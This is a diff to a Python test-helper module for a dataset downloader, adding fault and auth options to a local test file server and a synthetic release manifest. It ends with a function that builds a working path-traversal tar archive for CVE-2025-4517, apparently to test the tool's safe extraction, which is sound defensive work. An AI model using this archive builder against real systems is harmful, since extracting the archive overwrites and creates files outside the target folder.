@@ -9,10 +9,15 @@ per path and each is consumed by one request:
 - ``"ignore-range"``: answer ``200`` with the whole file even to a ``Range`` request;
 - ``"wrong-bytes"``: the right length, every byte inverted;
 - ``"slow"``: the body in 32 KiB pieces 20 ms apart (about 1.6 MB/s);
+- ``"trickle"`` / ``"trickle:S"``: the full length announced, then one body byte every 2 s (every ``S``
+  seconds), until the body is sent or the client has gone;
 - ``"404"``: not found.
 
 Size probes (``Range: bytes=0-0``) do not consume faults, so a fault hits the transfer it is meant for.
-Every request is recorded in :attr:`FileServer.requests` as ``(path, Range header or None)``.
+Every request is recorded in :attr:`FileServer.requests` as ``(path, Range header or None)`` and its
+``Authorization`` header in :attr:`FileServer.authorizations`. ``bearer`` makes the server answer 401 to
+requests without ``Authorization: Bearer <bearer>``; ``redirect_to`` answers every (authorised) request
+with a 302 to ``redirect_to`` + the path, as the Hugging Face mirror redirects to its CDN.
 """
 
 from __future__ import annotations
@@ -33,10 +38,19 @@ _INVERT = bytes(range(255, -1, -1))
 class FileServer:
     """Serve ``directory`` on ``http://127.0.0.1:<port>/`` in a background thread (a context manager)."""
 
-    def __init__(self, directory: str | Path, latency_s: float = 0.0) -> None:
+    def __init__(
+        self,
+        directory: str | Path,
+        latency_s: float = 0.0,
+        bearer: str | None = None,
+        redirect_to: str | None = None,
+    ) -> None:
         self.directory = Path(directory).resolve()
         self.latency_s = latency_s  # added before each response: a simulated round trip
+        self.bearer = bearer
+        self.redirect_to = redirect_to
         self.requests: list[tuple[str, str | None]] = []
+        self.authorizations: list[str | None] = []
         self._faults: dict[str, deque[str]] = defaultdict(deque)
         self._lock = threading.Lock()
         server = self
@@ -79,12 +93,20 @@ class FileServer:
     def _handle(self, h: BaseHTTPRequestHandler) -> None:
         rel = unquote(urlsplit(h.path).path).lstrip("/")
         range_header = h.headers.get("Range")
+        authorization = h.headers.get("Authorization")
         with self._lock:
             self.requests.append((rel, range_header))
+            self.authorizations.append(authorization)
             probe = (range_header or "").replace(" ", "") == "bytes=0-0"
             fault = self._faults[rel].popleft() if self._faults[rel] and not probe else None
         if self.latency_s:
             time.sleep(self.latency_s)
+        if self.bearer is not None and authorization != f"Bearer {self.bearer}":
+            self._simple(h, 401)
+            return
+        if self.redirect_to is not None:
+            self._simple(h, 302, {"Location": self.redirect_to + rel})
+            return
         file = (self.directory / rel).resolve()
         if fault == "404" or not file.is_file() or self.directory not in file.parents:
             self._simple(h, 404)
@@ -120,6 +142,13 @@ class FileServer:
                     f.seek(start)
                     h.wfile.write(f.read(length).translate(_INVERT))
                     h.wfile.flush()
+                elif fault is not None and fault.startswith("trickle"):
+                    interval = float(fault.split(":", 1)[1]) if ":" in fault else 2.0
+                    f.seek(start)
+                    while byte := f.read(1) if f.tell() <= end else b"":
+                        h.wfile.write(byte)
+                        h.wfile.flush()
+                        time.sleep(interval)
                 elif fault == "slow":
                     f.seek(start)
                     while chunk := f.read(min(32 << 10, end + 1 - f.tell())):
@@ -176,8 +205,13 @@ def make_release(base: Path, logs: int = 2, split: str = "mini") -> dict[str, ob
     (``collect`` then ``store.legacy.export_openscene_metadata``); the blobs are the ones they reference.
     Log ``i`` goes to lidar shard ``i`` and camera shard ``i``; the metadata archive holds every pickle.
 
+    The release manifest of this synthetic release is written to ``base / "release.json"`` (pass it with
+    ``--release-json``): the packaged one with the metadata archive's exact size (the packaged rounded
+    size describes the real archive, which a synthetic one is not).
+
     Returns:
-        ``{"server": folder to serve, "logs": [log names], "blobs": {log: [paths relative to sensor_blobs/<split>]}}``
+        ``{"server": folder to serve, "logs": [log names], "blobs": {log: [paths relative to
+        sensor_blobs/<split>]}, "release_json": the manifest}``
     """
     import pickle
 
@@ -219,12 +253,26 @@ def make_release(base: Path, logs: int = 2, split: str = "mini") -> dict[str, ob
                 tree,
                 [prefix + p for p in blobs[pkl.stem] if p.endswith(suffix)],
             )
-    add_tar(
-        server / f"openscene-v1.1/openscene_metadata_{split}.tgz",
-        tree,
-        [f"openscene-v1.1/meta_datas/{split}/{n}.pkl" for n in names],
-    )
-    return {"server": server, "logs": names, "blobs": blobs}
+    metadata = server / f"openscene-v1.1/openscene_metadata_{split}.tgz"
+    add_tar(metadata, tree, [f"openscene-v1.1/meta_datas/{split}/{n}.pkl" for n in names])
+    release_json = write_release_json(base / "release.json", split, {"metadata": metadata.stat().st_size})
+    return {"server": server, "logs": names, "blobs": blobs, "release_json": release_json}
+
+
+def write_release_json(path: Path, split: str, sizes: dict[str, int | None], size_exact: bool = True) -> Path:
+    """Write a copy of the packaged release manifest where ``split``'s modalities have ``sizes`` (bytes,
+    ``size_exact`` as given; ``None``: unknown); returns ``path``."""
+    import json
+
+    from driveengine.download.release import load_manifest
+
+    manifest = json.loads(json.dumps(load_manifest()))
+    modalities = manifest["splits"][split]["modalities"]
+    for modality, size in sizes.items():
+        modalities[modality]["size"] = size
+        modalities[modality]["size_exact"] = size_exact
+    path.write_text(json.dumps(manifest, indent=1))
+    return path
 
 
 def cached_release(tmp_path_factory: object) -> dict[str, object]:
@@ -246,3 +294,51 @@ if __name__ == "__main__":
     with FileServer(sys.argv[1], float(sys.argv[2]) if len(sys.argv) > 2 else 0.0) as _server:
         print(_server.url, flush=True)
         threading.Event().wait()
+
+
+# -- hostile archives ---------------------------------------------------------------------------------
+
+
+def symlink_chain_escape_tar(archive: Path, dest: Path, levels_up: int) -> None:
+    """Write the CVE-2025-4517 archive (CPython gh-135034, ``test_realpath_limit_attack``) for extraction
+    into ``dest``.
+
+    Sixteen folders with names long enough that their expanded path overflows ``PATH_MAX``, each
+    reached through a one-letter symlink (``a`` -> ``ddd...``); a final symlink under ``a/b/.../p`` points
+    sixteen levels up (back to ``dest``), but ``os.path.realpath`` gives up on it (name too long) and
+    so tarfile's ``data`` filter (before 3.11.13) believes every path through it stays inside. Then
+    ``escape`` -> that link followed by ``levels_up`` x ``..``; ``flaglink``, a hard link to
+    ``escape/flag``, is overwritten with ``overwrite`` (changing the file ``flag`` ``levels_up`` folders
+    above ``dest``), and ``escape/newfile`` creates ``newfile`` there.
+    """
+    import io
+    import tarfile
+
+    steps = "abcdefghijklmnop"
+    path_max = os.pathconf(dest.anchor, "PC_PATH_MAX")
+    component = "d" * ((path_max - len(str(dest)) - 1) // (len(steps) + 1))
+
+    def add(tar: tarfile.TarFile, name: str, kind: bytes, link: str = "", data: bytes | None = None) -> None:
+        info = tarfile.TarInfo(name)
+        info.type = kind
+        info.linkname = link
+        info.mode = 0o777 if kind == tarfile.DIRTYPE else 0o644
+        if data is None:
+            tar.addfile(info)
+        else:
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+
+    archive.parent.mkdir(parents=True, exist_ok=True)
+    with tarfile.open(archive, "w:gz") as tar:
+        path = ""
+        for step in steps:
+            add(tar, os.path.join(path, component), tarfile.DIRTYPE)
+            add(tar, os.path.join(path, step), tarfile.SYMTYPE, component)
+            path = os.path.join(path, component)
+        long_link = os.path.join(*steps, "l" * 254)
+        add(tar, long_link, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps)))
+        add(tar, "escape", tarfile.SYMTYPE, long_link + "/.." * levels_up)
+        add(tar, "flaglink", tarfile.LNKTYPE, "escape/flag")
+        add(tar, "flaglink", tarfile.REGTYPE, data=b"overwrite")
+        add(tar, "escape/newfile", tarfile.REGTYPE, data=b"new")
